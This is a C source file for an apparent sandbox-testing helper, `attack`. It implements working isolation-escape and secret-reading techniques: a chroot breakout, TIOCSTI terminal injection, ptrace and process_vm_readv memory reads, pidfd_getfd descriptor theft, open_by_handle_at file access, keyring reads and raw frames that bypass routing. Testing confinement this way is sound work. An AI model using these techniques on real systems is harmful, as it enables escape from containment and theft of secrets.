/* Attacks that a shell cannot try: `attack NAME ARGS...` prints whatever it gets hold of.
   Linked statically, so that it runs in an image, in a jail and on the machine itself. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/keyctl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int no(const char* what) {
  fprintf(stderr, "%s: %s\n", what, strerror(errno));
  return 1;
}

static int show(int fd) {
  char text[4096];
  ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof(text));
  if (size < 0) {
    return no("read");
  }
  return (int)(fwrite(text, 1, (size_t)size, stdout) == 0);
}

static void be_patient(int fd) {
  struct timeval patience = {2, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
}

/* unix PATH | unix @NAME: a socket of the file system, or an abstract one. */
static int attack_unix(char** args) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  size_t size = strlen(args[0]);
  memcpy(address.sun_path, args[0], size);
  if (args[0][0] == '@') {
    address.sun_path[0] = 0;
  }
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  be_patient(fd);
  if (connect(fd, (struct sockaddr*)&address,
              (socklen_t)(offsetof(struct sockaddr_un, sun_path) + size))) {
    return no("connect");
  }
  return show(fd);
}

static socklen_t address_of(char** args, struct sockaddr_storage* out) {
  struct sockaddr_in* four = (struct sockaddr_in*)out;
  struct sockaddr_in6* six = (struct sockaddr_in6*)out;
  memset(out, 0, sizeof(*out));
  if (inet_pton(AF_INET, args[0], &four->sin_addr) == 1) {
    four->sin_family = AF_INET;
    four->sin_port = htons((uint16_t)atoi(args[1]));
    return sizeof(*four);
  }
  inet_pton(AF_INET6, args[0], &six->sin6_addr);
  six->sin6_family = AF_INET6;
  six->sin6_port = htons((uint16_t)atoi(args[1]));
  return sizeof(*six);
}

/* tcp ADDRESS PORT, udp ADDRESS PORT: says "?" and shows the answer. */
static int attack_net(char** args, int kind) {
  struct sockaddr_storage address;
  socklen_t size = address_of(args, &address);
  int fd = socket(address.ss_family, kind, 0);
  be_patient(fd);
  if (fd < 0 || connect(fd, (struct sockaddr*)&address, size) || send(fd, "?\n", 2, 0) < 0) {
    return no("connect");
  }
  return show(fd);
}

static int attack_tcp(char** args) { return attack_net(args, SOCK_STREAM); }
static int attack_udp(char** args) { return attack_net(args, SOCK_DGRAM); }

/* raw ADDRESS: a packet of protocol 253 (RFC 3692), which no kernel answers itself. */
static int attack_raw(char** args) {
  char* with_port[] = {args[0], "0"};
  struct sockaddr_storage address;
  socklen_t size = address_of(with_port, &address);
  int fd = socket(address.ss_family, SOCK_RAW, 253);
  be_patient(fd);
  if (fd < 0 || connect(fd, (struct sockaddr*)&address, size) || send(fd, "?\n", 2, 0) < 0) {
    return no("raw socket");
  }
  return show(fd);
}

static uint16_t sum_of(const uint8_t* bytes, int size) {
  uint32_t sum = 0;
  for (int i = 0; i < size; i += 2) {
    sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
  }
  while (sum >> 16) {
    sum = (sum & 0xffff) + (sum >> 16);
  }
  return (uint16_t)~sum;
}

/* A question over UDP in an IPv4 packet; `via`, if any, with `to` behind it in a source route. */
static int ipv4_packet(uint8_t* out, const char* from, const char* to, const char* via, int port) {
  int head = via ? 28 : 20;
  memset(out, 0, 64);
  out[0] = (uint8_t)(0x40 | head / 4);
  out[3] = (uint8_t)(head + 10);
  out[8] = 64;
  out[9] = IPPROTO_UDP;
  inet_pton(AF_INET, from, out + 12);
  inet_pton(AF_INET, via ? via : to, out + 16);
  if (via) {
    memcpy(out + 20, "\x83\x07\x04", 3);
    inet_pton(AF_INET, to, out + 23);
  }
  uint16_t sum = sum_of(out, head);
  out[10] = (uint8_t)(sum >> 8);
  out[11] = (uint8_t)sum;
  memcpy(out + head, "\x30\x39", 2);
  out[head + 2] = (uint8_t)(port >> 8);
  out[head + 3] = (uint8_t)port;
  out[head + 5] = 10;
  memcpy(out + head + 8, "?\n", 2);
  return head + 10;
}

/* Shows the next frame when it is an answer to ipv4_packet; 1 when none came. */
static int show_answer(int fd) {
  uint8_t frame[512];
  ssize_t size = recv(fd, frame, sizeof(frame), 0);
  if (size < 0) {
    return 1;
  }
  if (size > 42 && frame[23] == IPPROTO_UDP && memcmp(frame + 36, "\x30\x39", 2) == 0) {
    fwrite(frame + 42, 1, (size_t)size - 42, stdout);
  }
  return 0;
}

/* frame DEVICE FROM TO PORT [vlan|VIA]: as attack_udp, past all of the kernel's routing. */
static int attack_frame(char** args) {
  const char* way = args[4];
  int vlan = way && strcmp(way, "vlan") == 0;
  uint8_t frame[128];
  struct ifreq card = {0};
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  strncpy(card.ifr_name, args[0], IFNAMSIZ - 1);
  if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &card)) {
    return no("packet socket");
  }
  memset(frame, 0xff, 6);
  memcpy(frame + 6, card.ifr_hwaddr.sa_data, 6); /* another would cut everybody off */
  int at = 12;
  if (vlan) {
    memcpy(frame + at, "\x81\x00\x00\x00", 4);
    at += 4;
  }
  memcpy(frame + at, "\x08\x00", 2);
  at += 2;
  at += ipv4_packet(frame + at, args[1], args[2], vlan ? NULL : way, atoi(args[3]));
  struct sockaddr_ll device = {.sll_family = AF_PACKET,
                               .sll_protocol = htons(ETH_P_ALL),
                               .sll_ifindex = (int)if_nametoindex(args[0]),
                               .sll_halen = 6};
  if (bind(fd, (struct sockaddr*)&device, sizeof(device))) {
    return no("packet socket");
  }
  struct timeval patience = {0, 200000};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
  for (int i = 0; i < 3; ++i) {
    if (send(fd, frame, (size_t)at, 0) < 0) {
      return no("send");
    }
    for (int n = 0; n < 20 && show_answer(fd) == 0; ++n) {
    }
  }
  return 0;
}

/* hold TEXT: a process with something to steal: prints where in its memory, then sleeps. */
static int attack_hold(char** args) {
  char* secret = strdup(args[0]);
  printf("%p\n", (void*)secret);
  fflush(stdout);
  return pause();
}

/* memory PID ADDRESS: reads another's memory, and attaches to it. */
static int attack_memory(char** args) {
  char text[64];
  pid_t pid = atoi(args[0]);
  struct iovec here = {text, sizeof(text)};
  struct iovec there = {(void*)strtoul(args[1], NULL, 16), sizeof(text)};
  ssize_t size = process_vm_readv(pid, &here, 1, &there, 1, 0);
  if (size > 0) {
    printf("%.*s\n", (int)size, text);
    return 0;
  }
  if (ptrace(PTRACE_ATTACH, pid, NULL, NULL)) {
    return no("ptrace");
  }
  waitpid(pid, NULL, 0);
  for (int i = 0; i < 8; ++i) {
    long word = ptrace(PTRACE_PEEKDATA, pid, (char*)there.iov_base + i * 8, NULL);
    fwrite(&word, 1, sizeof(word), stdout);
  }
  return (int)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/* descriptor PID FD: takes a descriptor out of another process. */
static int attack_descriptor(char** args) {
  int process = (int)syscall(SYS_pidfd_open, atoi(args[0]), 0);
  int fd = process < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, process, atoi(args[1]), 0);
  char text[256];
  ssize_t size = fd < 0 ? -1 : pread(fd, text, sizeof(text), 0);
  return size < 0 ? no("pidfd_getfd") : (int)(fwrite(text, 1, (size_t)size, stdout) == 0);
}

static void show_key(long key) {
  char text[256];
  long size = syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof(text));
  if (size > 0) {
    fwrite(text, 1, size > 256 ? 256 : (size_t)size, stdout);
  }
}

/* key ID DESCRIPTION: reads it by its number, and by its name in every keyring one has. */
static int attack_key(char** args) {
  syscall(SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING);
  show_key(atol(args[0]));
  static const int rings[] = {KEY_SPEC_THREAD_KEYRING,       KEY_SPEC_PROCESS_KEYRING,
                              KEY_SPEC_SESSION_KEYRING,      KEY_SPEC_USER_KEYRING,
                              KEY_SPEC_USER_SESSION_KEYRING, KEY_SPEC_GROUP_KEYRING};
  for (size_t i = 0; i < sizeof(rings) / sizeof(*rings); ++i) {
    long found = syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", args[1], 0);
    if (found > 0) {
      show_key(found);
    }
  }
  long asked = syscall(SYS_request_key, "user", args[1], NULL, 0);
  if (asked > 0) {
    show_key(asked);
  }
  return 0;
}

/* addkey WHERE DESCRIPTION TEXT: for the machine of the test; WHERE is "session" or "user". */
static int attack_addkey(char** args) {
  int ring = strcmp(args[0], "session") ? KEY_SPEC_USER_KEYRING : KEY_SPEC_SESSION_KEYRING;
  long key = syscall(SYS_add_key, "user", args[1], args[2], strlen(args[2]), ring);
  printf("%ld\n", key);
  return key < 0 ? no("add_key") : 0;
}

/* as ID CMD...: as another user. */
static int attack_as(char** args) {
  unsigned id = (unsigned)atoi(args[0]);
  if (setgid(id) || setuid(id)) {
    return no("setuid");
  }
  execvp(args[1], args + 1);
  return no(args[1]);
}

/* session DESCRIPTION TEXT CMD...: CMD in a new session keyring that has one key. */
static int attack_session(char** args) {
  syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
  if (args[0][0]) {
    syscall(SYS_add_key, "user", args[0], args[1], strlen(args[1]), KEY_SPEC_SESSION_KEYRING);
  }
  execvp(args[2], args + 2);
  return no(args[2]);
}

static int attack_unlinkkey(char** args) {
  return (int)syscall(SYS_keyctl, KEYCTL_UNLINK, atol(args[0]), KEY_SPEC_USER_KEYRING);
}

/* share NUMBER TEXT: makes a System V segment with TEXT; segment NUMBER: shows one. */
static int attack_share(char** args) {
  int id = shmget(atoi(args[0]), 4096, IPC_CREAT | 0666);
  char* memory = id < 0 ? NULL : shmat(id, NULL, 0);
  if (memory == NULL || memory == (void*)-1) {
    return no("shmat");
  }
  if (args[1]) {
    strcpy(memory, args[1]);
  } else {
    shmctl(id, IPC_RMID, NULL);
  }
  return 0;
}

static int attack_segment(char** args) {
  int id = shmget(atoi(args[0]), 0, 0);
  char* memory = id < 0 ? NULL : shmat(id, NULL, SHM_RDONLY);
  if (memory == NULL || memory == (void*)-1) {
    return no("shmat");
  }
  puts(memory);
  return 0;
}

struct handle {
  struct file_handle head;
  unsigned char bytes[128];
};

/* number FILE: its file handle in hex, for `handle` to open. */
static int attack_number(char** args) {
  struct handle handle = {.head = {.handle_bytes = 128}};
  int mount = 0;
  if (name_to_handle_at(AT_FDCWD, args[0], &handle.head, &mount, 0)) {
    return no("name_to_handle_at");
  }
  printf("%d:", handle.head.handle_type);
  for (unsigned i = 0; i < handle.head.handle_bytes; ++i) {
    printf("%02x", handle.head.f_handle[i]);
  }
  return puts("") < 0;
}

/* handle TYPE:HEX PLACE...: opens a file by its number on the file system of each PLACE. */
static int attack_handle(char** args) {
  struct handle handle = {.head = {.handle_type = atoi(args[0])}};
  const char* hex = strchr(args[0], ':') + 1;
  for (; hex[0] && hex[1]; hex += 2) {
    char pair[3] = {hex[0], hex[1], 0};
    handle.head.f_handle[handle.head.handle_bytes++] = (unsigned char)strtoul(pair, NULL, 16);
  }
  int done = 1;
  for (++args; *args; ++args) {
    int place = open(*args, O_RDONLY);
    int fd = open_by_handle_at(place, &handle.head, O_RDONLY);
    done = fd < 0 ? no(*args) : show(fd);
  }
  return done;
}

/* descriptors PATH: every descriptor that came along, as a way up to PATH. */
static int attack_descriptors(char** args) {
  char way[512];
  snprintf(way, sizeof(way), "../../../../../../../../../..%s", args[0]);
  for (int fd = 0; fd < 1024; ++fd) {
    int found = openat(fd, way, O_RDONLY);
    if (found >= 0) {
      show(found);
    }
  }
  return 0;
}

/* chroot PATH: out of a root folder by a working folder that was left above it. */
static int attack_chroot(char** args) {
  char name[] = "/tmp/ktl-chroot-XXXXXX";
  if (mkdtemp(name) == NULL) {
    return no("mkdtemp");
  }
  int up = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot(name)) {
    return no("chroot");
  }
  if (fchdir(up)) {
    return no("fchdir");
  }
  for (int i = 0; i < 64; ++i) {
    if (chdir("..")) {
      return no("chdir");
    }
  }
  if (chroot(".")) {
    return no("chroot");
  }
  return show(open(args[0], O_RDONLY));
}

/* type TEXT: into the terminal that standard input is, as if its user had typed it. */
static int attack_type(char** args) {
  for (const char* c = args[0]; *c; ++c) {
    if (ioctl(0, TIOCSTI, c)) {
      return no("TIOCSTI");
    }
  }
  return 0;
}

/* device PATH OUT: mounts a disk by the new mount calls and shows OUT on it. */
static int attack_device(char** args) {
  int fs = (int)syscall(SYS_fsopen, "ext4", 0);
  if (fs < 0 || syscall(SYS_fsconfig, fs, 1, "source", args[0], 0) ||
      syscall(SYS_fsconfig, fs, 0, "ro", NULL, 0) || syscall(SYS_fsconfig, fs, 6, NULL, NULL, 0)) {
    return no("fsopen");
  }
  int tree = (int)syscall(SYS_fsmount, fs, 0, 0);
  return tree < 0 ? no("fsmount") : show(openat(tree, args[1], O_RDONLY));
}

static const struct {
  const char* name;
  int (*run)(char** args);
} kAttacks[] = {
    {"unix", attack_unix},
    {"tcp", attack_tcp},
    {"udp", attack_udp},
    {"raw", attack_raw},
    {"frame", attack_frame},
    {"hold", attack_hold},
    {"memory", attack_memory},
    {"descriptor", attack_descriptor},
    {"key", attack_key},
    {"addkey", attack_addkey},
    {"as", attack_as},
    {"session", attack_session},
    {"unlinkkey", attack_unlinkkey},
    {"share", attack_share},
    {"segment", attack_segment},
    {"number", attack_number},
    {"handle", attack_handle},
    {"descriptors", attack_descriptors},
    {"chroot", attack_chroot},
    {"type", attack_type},
    {"device", attack_device},
};

int main(int argc, char** argv) {
  for (size_t i = 0; argc > 1 && i < sizeof(kAttacks) / sizeof(*kAttacks); ++i) {
    if (strcmp(argv[1], kAttacks[i].name) == 0) {
      return kAttacks[i].run(argv + 2);
    }
  }
  return 2;
}
